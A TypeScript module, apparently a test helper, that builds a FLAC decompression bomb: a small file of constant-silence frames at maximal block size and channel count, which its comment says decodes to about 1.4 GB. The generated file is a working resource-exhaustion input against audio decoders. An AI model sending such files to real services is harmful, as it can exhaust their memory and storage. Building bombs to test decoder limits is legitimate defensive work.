/** Sample frames of the largest block that FLAC has, and channels. */
const block = { samples: 65_535, channels: 8 };
/** Bytes of a frame that holds one value: head, a constant for each channel, checksum. */
const frameBytes = 9 + 3 * block.channels + 2;

/** A FLAC file of about so many bytes that holds silence only: 25,000 of them decode to 1.4 GB (RFC 9639). */
export function decodeBomb(bytes: number): Buffer {
  const info = Buffer.alloc(34);
  info.writeUInt16BE(block.samples, 0);
  info.writeUInt16BE(block.samples, 2);
  const rate = 44_100;
  info.writeUIntBE(rate * 16 + (block.channels - 1) * 2, 10, 3);
  info[13] = 15 << 4;
  const frames = Array.from({ length: Math.floor(bytes / frameBytes) }, (_, at) => frame(at));
  return Buffer.concat([
    Buffer.from('fLaC'),
    Buffer.from([0x80, 0, 0, info.length]),
    info,
    ...frames,
  ]);
}

function frame(number: number): Buffer {
  // The size of the block stands in 16 bits behind the number; 44,100 Hz; 16 bits.
  const kind = [0xff, 0xf8, 0x79, ((block.channels - 1) << 4) | 8];
  const head = [...kind, ...utf8Number(number), 0xff, 0xfe];
  const constants = Array.from({ length: block.channels }, () => [0, 0, 0]).flat();
  const body = [...head, crc(head, 8, 0x07), ...constants];
  const sum = crc(body, 16, 0x8005);
  return Buffer.from([...body, sum >> 8, sum & 255]);
}

/** As UTF-8 writes letters. */
function utf8Number(number: number): number[] {
  return [...Buffer.from(String.fromCodePoint(number))];
}

function crc(bytes: readonly number[], bits: number, polynomial: number): number {
  const top = 1 << (bits - 1);
  let sum = 0;
  for (const byte of bytes) {
    sum ^= byte << (bits - 8);
    for (let bit = 0; bit < 8; bit++) {
      sum = (sum & top ? (sum << 1) ^ polynomial : sum << 1) & ((1 << bits) - 1);
    }
  }
  return sum;
}
